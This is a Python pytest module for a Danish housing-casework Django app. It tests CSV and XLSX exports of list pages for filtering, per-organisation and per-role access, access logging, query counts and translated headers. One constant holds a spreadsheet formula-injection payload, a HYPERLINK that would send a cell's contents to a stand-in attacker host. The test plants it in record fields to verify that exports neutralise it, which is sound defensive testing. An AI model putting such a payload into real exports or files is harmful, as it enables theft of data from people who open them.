"""The CSV and XLSX export of every list page: the rows of the page (same query, same filters,
every page of it), the same permissions and field rules, a log row per household in the file,
no formula run from a cell, and a query count that does not grow with the rows."""

import io
from dataclasses import dataclass, field
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from cases.logistics.models import PoolKind
from cases.models import Case
from cases.stages import Stage
from core.exports import XLSX_TYPE
from households.models import AccessAction, AccessLog, VulnerabilityFactor
from outreach.models import (
    AwaitedReply,
    Channel,
    Contact,
    Flag,
    FlagKind,
    HomeObservation,
    Meeting,
    Outcome,
    Tip,
    TipSource,
)
from referrals.bridge.services import follow_up_plan_start
from referrals.models import FollowUpPlan, Purpose
from referrals.services import referral_create
from tests import factories
from tests.conftest import MARKERS
from tests.exports import content_of, read_export

INJECTION = '=HYPERLINK("http://evil.example/?d="&A2;"Klik her")'
HOME_OBS = {"case_a1": "HOME-OBS-A1-4411", "case_a2": "HOME-OBS-A2-4412", "case_b1": "HOME-OBS-B1"}


@dataclass
class Planted:
    households: dict[str, int] = field(default_factory=dict)
    projects: dict[str, int] = field(default_factory=dict)


def plant(cast, key: str, *, extra: bool = False) -> Case:
    """One of each listed thing for `key`'s case; `extra` adds a second household to its
    estate in another project, with things the filters of the tests leave out."""
    case = getattr(cast, key)
    org = case.project.estate.organisation
    staff = {"case_b1": cast.caseworker_b1}.get(key, cast.caseworker_a1)
    if extra:
        project = factories.make_project(case.project.estate, name=f"Andet projekt {key}")
        flat = factories.make_flat(factories.make_stairwell(case.project.estate, street="Andenvej"))
        household = factories.make_household(flat, "Ekstra Husstand")
        case = factories.make_case(project, household)
    household = case.household
    Contact.objects.create(
        household=household,
        case=case,
        staff=staff,
        channel=Channel.DOOR_KNOCK,
        outcome=Outcome.VISIT_INSIDE,
        note="Talte ved døren",
        observations=[HomeObservation.NEEDLES],
        observation_note=HOME_OBS.get(key, "HOME-OBS"),
    )
    Flag.objects.create(
        household=household,
        case=case,
        kind=FlagKind.SAFETY_CONCERN if extra else FlagKind.NO_CONTACT,
        reason="Ingen kontakt",
    )
    AwaitedReply.objects.create(
        household=household,
        case=case,
        subject="Varsel om genhusning",
        sent_via="letter",
        due_on=timezone.localdate() + timedelta(days=7),
    )
    Tip.objects.create(
        flat=household.flat, household=household, source=TipSource.CARETAKER, text="Handler tirsdag"
    )
    Meeting.objects.create(
        project=case.project,
        held_at=timezone.now() - timedelta(days=3),
        place="Fælleshuset",
        topic=f"Infomøde {case.project.name}",
    )
    partner = factories.make_partner(org, f"Hjemmeplejen {key}{' ekstra' if extra else ''}")
    referral_create(
        household=household,
        partner=partner,
        reason="Hjælp i hjemmet",
        by=staff,
        purpose=Purpose.REFERRAL,
    )
    factories.make_consent(household, staff, partner=partner)
    plan = follow_up_plan_start(case=case)
    if extra:
        FollowUpPlan.objects.filter(pk=plan.pk).update(closed_on=timezone.localdate())
    factories.make_pool_flat(
        org,
        factories.make_flat(factories.make_stairwell(case.project.estate, street=f"Puljevej{key}")),
        kind=PoolKind.PERMANENT if extra else PoolKind.TEMPORARY,
    )
    return case


@pytest.fixture
def planted(cast) -> Planted:
    for key in ("case_a1", "case_a2", "case_b1"):
        plant(cast, key)
    plant(cast, "case_a1", extra=True)
    Case.objects.filter(pk__in=[cast.case_a1.pk, cast.case_b1.pk]).update(
        stage=Stage.MOVED_PERMANENTLY
    )
    return Planted(
        households={k: getattr(cast, k).household_id for k in ("case_a1", "case_a2", "case_b1")},
        projects={k: getattr(cast, k).project_id for k in ("case_a1", "case_a2", "case_b1")},
    )


@dataclass(frozen=True)
class Spec:
    page: str  # the list page's URL name; its export is page_csv / page_xlsx
    user: str  # who sees A1's rows
    other: str  # of another organisation: sees none of them
    household: bool = False  # a household's list: the URL names A1's household
    query: dict = field(default_factory=dict)  # a filter of the page (values resolved by `filled`)
    key: str = "household"  # the first column: what the page lists

    def url(self, fmt: str | None, planted: Planted, household_key: str = "case_a1") -> str:
        name = f"{self.page}_{fmt}" if fmt else self.page
        args = [planted.households[household_key]] if self.household else []
        return reverse(name, args=args)

    def filled(self, planted: Planted) -> dict:
        return {
            k: planted.projects["case_a1"] if v == "PROJECT" else v for k, v in self.query.items()
        }


SPECS = {
    "caseload": Spec(
        "cases:caseload", "caseworker_a1", "caseworker_b1", query={"scope": "all", "q": "Markørvej"}
    ),
    "flags": Spec(
        "outreach:flags",
        "caseworker_a1",
        "caseworker_b1",
        query={"scope": "all", "kind": FlagKind.NO_CONTACT},
    ),
    "letters": Spec(
        "outreach:letters", "caseworker_a1", "caseworker_b1", query={"project": "PROJECT"}
    ),
    "tips": Spec("outreach:tips", "caseworker_a1", "caseworker_b1", key="address"),
    "meetings": Spec(
        "outreach:meetings",
        "caseworker_a1",
        "caseworker_b1",
        query={"project": "PROJECT"},
        key="topic",
    ),
    "contacts": Spec(
        "outreach:contacts", "caseworker_a1", "caseworker_b1", household=True, key="-"
    ),
    "referrals": Spec(
        "referrals:household_referrals",
        "caseworker_a1",
        "caseworker_b1",
        household=True,
        key="partner",
    ),
    "consents": Spec(
        "referrals:consents", "caseworker_a1", "caseworker_b1", household=True, key="recipient"
    ),
    "follow_ups": Spec(
        "referrals:follow_up_list", "caseworker_a1", "caseworker_b1", query={"scope": "all"}
    ),
    "pool": Spec(
        "logistics:pool",
        "manager_a",
        "manager_b",
        query={"kind": PoolKind.TEMPORARY},
        key="address",
    ),
}
FORMATS = ["csv", "xlsx"]


def page_keys(name: str, context) -> list[str]:
    """The first column of the page's rows, as the export must have them."""
    if name == "caseload":
        return [c.household.display_name() for c in context["page"].paginator.object_list]
    if name in ("flags", "letters"):
        return [o.household.display_name() for o in context["page"].paginator.object_list]
    if name == "tips":
        return [tip.flat.address for tip in context["page"].paginator.object_list]
    if name == "meetings":
        past = list(context["page"].paginator.object_list)
        return [m.topic for m in [*context["upcoming"], *past]]
    if name == "contacts":
        return [str(len(context["page"].paginator.object_list))]
    if name == "referrals":
        return [r.partner.name for r in context["referrals"]]
    if name == "consents":
        return [str(consent.recipient) for consent, _status in context["rows"]]
    if name == "follow_ups":
        return [p.case.household.display_name() for p in context["page"].paginator.object_list]
    if name == "pool":
        return [p.flat.address for p in context["page"].paginator.object_list]
    raise AssertionError(name)


def text_of(rows: list[list]) -> str:
    return "\n".join(";".join(row) for row in rows)


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("name", SPECS)
def test_it_exports_the_rows_of_the_filtered_page(client, cast, planted, name, fmt):
    spec = SPECS[name]
    client.force_login(getattr(cast, spec.user))
    query = spec.filled(planted)
    page = client.get(spec.url(None, planted), query)
    assert page.status_code == 200
    assert f'href="{spec.url(fmt, planted)}' in page.content.decode()  # the button
    response = client.get(spec.url(fmt, planted), query)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert response["Content-Disposition"].endswith(f'.{fmt}"')
    rows = read_export(response)
    header, body = rows[0], rows[1:]
    assert all(header) and len(set(header)) == len(header)
    assert all(len(row) == len(header) for row in body)
    expected = page_keys(name, page.context)
    if name == "contacts":
        assert [str(len(body))] == expected
    else:
        assert sorted(row[0] for row in body) == sorted(expected)
    assert body, "the filtered page shows something"
    # the filter is honoured: without it, the export has more (the extra household's rows)
    if spec.query and name != "follow_ups":
        unfiltered = read_export(client.get(spec.url(fmt, planted), {"scope": "all"}))
        assert len(unfiltered) > len(rows)
    if name == "follow_ups":
        closed = read_export(
            client.get(spec.url(fmt, planted), {"scope": "all", "status": "closed"})
        )
        assert [row[0] for row in closed[1:]] == ["Ekstra Husstand"]


def test_the_caseload_export_has_danish_headers_and_the_case(client, cast, planted):
    client.force_login(cast.caseworker_a1)
    url = reverse("cases:caseload_xlsx")
    rows = read_export(client.get(url, {"scope": "all", "q": "Markørvej"}))
    assert rows[0][:6] == ["Husstand", "Adresse", "Postnummer", "Afdeling", "Projekt", "Fase"]
    assert rows[1][0].startswith("Agnete Markørsen")
    assert rows[1][1].startswith("Markørvej 3")
    assert rows[1][6] == "Særligt sårbar"


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("name", SPECS)
def test_anonymous_is_sent_to_the_login(client, planted, name, fmt):
    response = client.get(SPECS[name].url(fmt, planted))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("name", SPECS)
def test_another_organisation_sees_none_of_its_rows(client, cast, planted, name, fmt):
    spec = SPECS[name]
    client.force_login(getattr(cast, spec.other))
    response = client.get(spec.url(fmt, planted), {"scope": "all"})
    if spec.household:
        assert response.status_code == 404
        assert not any(marker in response.content.decode() for marker in MARKERS["case_a1"])
        response = client.get(spec.url(fmt, planted, "case_b1"))
    assert response.status_code == 200
    text = text_of(read_export(response))
    for key in ("case_a1", "case_a2"):
        for marker in (*MARKERS[key], HOME_OBS[key], "Vestergården", "Nordparken"):
            assert marker not in text, (name, marker)
    assert not AccessLog.objects.filter(
        household_id__in=[planted.households["case_a1"], planted.households["case_a2"]]
    ).exists()


# What the rehousing officer may export, and what she may not open at all.
OFFICER_EXPORTS = ["caseload", "flags", "letters", "meetings", "contacts", "pool"]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("name", SPECS)
def test_the_rehousing_officer_gets_no_social_fields(client, cast, planted, name, fmt):
    spec = SPECS[name]
    client.force_login(cast.rehousing_officer_a1)
    response = client.get(spec.url(fmt, planted), {"scope": "all"})
    if name not in OFFICER_EXPORTS:
        assert response.status_code in (403, 404)
        return
    assert response.status_code == 200
    text = text_of(read_export(response))
    if name != "pool":
        assert MARKERS["case_a1"][0] in text or name in ("meetings", "contacts")
    factor = str(VulnerabilityFactor.ADDICTION.label)
    for marker in ("SOCIAL-NOTE", "ASSESSMENT-", "HOME-OBS", "Nåle", factor, "Misbrug"):
        assert marker not in text, (name, marker)


@pytest.mark.parametrize("name", SPECS)
def test_the_visitator_gets_no_list_but_her_flats(client, cast, planted, name):
    client.force_login(cast.visitator)
    response = client.get(SPECS[name].url("csv", planted))
    assert response.status_code in (403, 404)


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("name", SPECS)
def test_it_logs_one_row_per_household_in_the_file(client, cast, planted, name, fmt):
    spec = SPECS[name]
    user = getattr(cast, spec.user)
    client.force_login(user)
    AccessLog.objects.all().delete()
    response = client.get(spec.url(fmt, planted), spec.filled(planted))
    content_of(response)
    entries = list(AccessLog.objects.filter(user_id=user.pk))
    assert entries and {e.action for e in entries} == {AccessAction.EXPORT}
    assert len({e.what for e in entries}) == 1
    what = entries[0].what
    assert "export" in what
    assert not any(marker in what for markers in MARKERS.values() for marker in markers)
    assert all(e.path.startswith(spec.url(fmt, planted)) for e in entries)
    households = sorted(e.household_id for e in entries)
    if name in ("meetings", "pool"):  # counts and flats: no household in the file
        assert households == [None]
    elif name in ("contacts", "referrals", "consents"):
        assert households == [planted.households["case_a1"]]
    else:
        assert planted.households["case_a1"] in households
        assert len(households) == len(set(households))
        assert planted.households["case_b1"] not in households


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("name", SPECS)
def test_a_formula_in_a_cell_is_never_run(client, cast, planted, name, fmt):
    """A resident named "=HYPERLINK(...)" (and the like in every list's text)."""
    household = cast.case_a1.household
    household.residents.update(first_name=INJECTION)
    Meeting.objects.filter(project=cast.case_a1.project).update(topic=INJECTION)
    household.flat.stairwell.estate.stairwells.filter(street="Puljevejcase_a1").update(
        street=INJECTION
    )
    Tip.objects.filter(household=household).update(text=INJECTION)
    Contact.objects.filter(household=household).update(note=INJECTION)
    partner = factories.make_partner(household.flat.stairwell.estate.organisation, INJECTION)
    factories.make_consent(household, cast.caseworker_a1, partner=partner, given_by=INJECTION)
    referral_create(
        household=household,
        partner=partner,
        reason="x",
        by=cast.caseworker_a1,
        purpose=Purpose.REFERRAL,
    )
    spec = SPECS[name]
    client.force_login(getattr(cast, spec.user))
    response = client.get(spec.url(fmt, planted), {"scope": "all"})
    assert response.status_code == 200
    if fmt == "xlsx":
        assert response["Content-Type"] == XLSX_TYPE
        sheet = load_workbook(io.BytesIO(content_of(response))).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        values = [str(cell.value) for cell in cells if cell.value is not None]
    else:
        values = [value for row in read_export(response) for value in row]
    assert not [value for value in values if value.startswith("=")]
    assert any(value.startswith("'=HYPERLINK") for value in values), name


def grow(cast, count: int) -> None:
    """`count` more households on estate A1, each with something on every list."""
    project = cast.case_a1.project
    stairwell = factories.make_stairwell(project.estate, street="Vækstvej")
    for index in range(count):
        flat = factories.make_flat(stairwell, floor=index, door="tv")
        household = factories.make_household(flat, f"Ib Vækst{index}", f"Grethe Vækst{index}")
        case = factories.make_case(project, household, stage=Stage.MOVED_PERMANENTLY)
        Flag.objects.create(household=household, case=case, kind=FlagKind.NO_CONTACT, reason="x")
        AwaitedReply.objects.create(
            household=household,
            case=case,
            subject="Varsel",
            sent_via="letter",
            due_on=timezone.localdate(),
        )
        Tip.objects.create(flat=flat, household=household, source=TipSource.CARETAKER, text="x")
        Meeting.objects.create(project=project, held_at=timezone.now(), place="Her", topic="x")
        follow_up_plan_start(case=case)
        factories.make_pool_flat(project.estate.organisation, flat, kind=PoolKind.TEMPORARY)
        a1 = cast.case_a1.household
        Contact.objects.create(
            household=a1,
            staff=cast.caseworker_a1,
            channel=Channel.PHONE,
            outcome=Outcome.TALKED,
        )
        partner = factories.make_partner(project.estate.organisation, f"Partner {index}")
        referral_create(
            household=a1,
            partner=partner,
            reason="x",
            by=cast.caseworker_a1,
            purpose=Purpose.REFERRAL,
        )
        factories.make_consent(a1, cast.caseworker_a1, partner=partner)


@pytest.mark.parametrize("count", [2, 25])
@pytest.mark.parametrize("name", SPECS)
def test_the_query_count_does_not_grow_with_the_rows(
    client, cast, planted, django_assert_max_num_queries, name, count
):
    grow(cast, count)
    spec = SPECS[name]
    client.force_login(getattr(cast, spec.user))
    with django_assert_max_num_queries(14):
        response = client.get(spec.url("xlsx", planted), {"scope": "all"})
    assert response.status_code == 200
    assert len(read_export(response)) > count


FIRST_HEADERS = {
    "caseload": "Husstand",
    "flags": "Husstand",
    "letters": "Husstand",
    "tips": "Adresse",
    "meetings": "Møde",
    "contacts": "Tidspunkt",
    "referrals": "Samarbejdspartner",
    "consents": "Modtager",
    "follow_ups": "Husstand",
    "pool": "Adresse",
}


@pytest.mark.parametrize("name", SPECS)
def test_the_headers_are_danish(client, cast, planted, name):
    spec = SPECS[name]
    client.force_login(getattr(cast, spec.user))
    header = read_export(client.get(spec.url("csv", planted), {"scope": "all"}))[0]
    assert header[0] == FIRST_HEADERS[name]
    english = read_export(
        client.get(spec.url("csv", planted), {"scope": "all"}, headers={"Accept-Language": "en"})
    )[0]
    assert header != english  # every header goes through gettext
